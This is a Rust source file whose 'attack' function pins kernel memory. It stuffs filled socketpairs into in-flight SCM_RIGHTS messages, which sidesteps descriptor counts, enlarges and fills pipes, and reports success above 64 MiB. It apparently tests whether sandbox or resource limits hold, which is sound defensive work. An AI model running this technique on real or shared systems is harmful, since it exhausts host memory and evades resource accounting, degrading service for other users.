use std::io;
use std::sync::atomic::{AtomicBool, Ordering};

unsafe extern "C" {
    fn socketpair(family: i32, kind: i32, protocol: i32, ends: *mut i32) -> i32;
    fn pipe2(ends: *mut i32, flags: i32) -> i32;
    fn fcntl(descriptor: i32, command: i32, ...) -> i32;
    fn write(descriptor: i32, bytes: *const u8, length: usize) -> isize;
    fn sendmsg(socket: i32, message: *const Message, flags: i32) -> isize;
    fn close(descriptor: i32) -> i32;
}

#[repr(C)]
struct Message {
    name: *const u8,
    name_length: u32,
    pieces: *const [usize; 2],
    pieces_count: usize,
    control: *const Rights,
    control_length: usize,
    flags: i32,
}

#[repr(C)]
struct Rights {
    length: usize,
    level: i32,
    kind: i32,
    descriptors: [i32; 2],
}

const NON_BLOCKING: i32 = 0o4000;
const SET_PIPE_SIZE: i32 = 1031;
const MEBI: usize = 1 << 20;
static TRIED: AtomicBool = AtomicBool::new(false);

fn filled(descriptor: i32, block: &[u8]) -> usize {
    let mut total = 0;
    loop {
        match unsafe { write(descriptor, block.as_ptr(), block.len()) } {
            count if count > 0 => total += count as usize,
            _ => return total,
        }
    }
}

pub fn attack() -> io::Result<Option<String>> {
    if TRIED.swap(true, Ordering::SeqCst) {
        return Ok(None);
    }
    let (block, mut open, mut total) = (vec![7_u8; 1 << 16], Vec::new(), 0);
    let mut post = [0; 2];
    unsafe { socketpair(1, 1 | NON_BLOCKING, 0, post.as_mut_ptr()) };
    // Full sockets are put into another one and closed: they take up no descriptors.
    for _ in 0..300 {
        let mut ends = [0; 2];
        if unsafe { socketpair(1, 1 | NON_BLOCKING, 0, ends.as_mut_ptr()) } < 0 {
            break;
        }
        let kept = filled(ends[0], &block) + filled(ends[1], &block);
        let (byte, rights) = ([0_u8], Rights { length: 24, level: 1, kind: 1, descriptors: ends });
        let piece = [byte.as_ptr() as usize, 1];
        let (name, pieces, control) = (std::ptr::null(), &raw const piece, &raw const rights);
        let message = Message { name, name_length: 0, pieces, pieces_count: 1, control, control_length: 24, flags: 0 };
        let sent = unsafe { sendmsg(post[0], &message, 0) } == 1;
        ends.iter().for_each(|end| {
            unsafe { close(*end) };
        });
        if !sent {
            break;
        }
        total += kept;
    }
    for _ in 0..100 {
        let mut ends = [0; 2];
        if unsafe { pipe2(ends.as_mut_ptr(), NON_BLOCKING) } < 0 {
            break;
        }
        unsafe { fcntl(ends[1], SET_PIPE_SIZE, MEBI as i32) };
        total += filled(ends[1], &block);
        open.extend(ends);
    }
    open.iter().chain(&post).for_each(|descriptor| {
        unsafe { close(*descriptor) };
    });
    Ok((total > 64 * MEBI).then(|| format!("{} MiB", total / MEBI)))
}
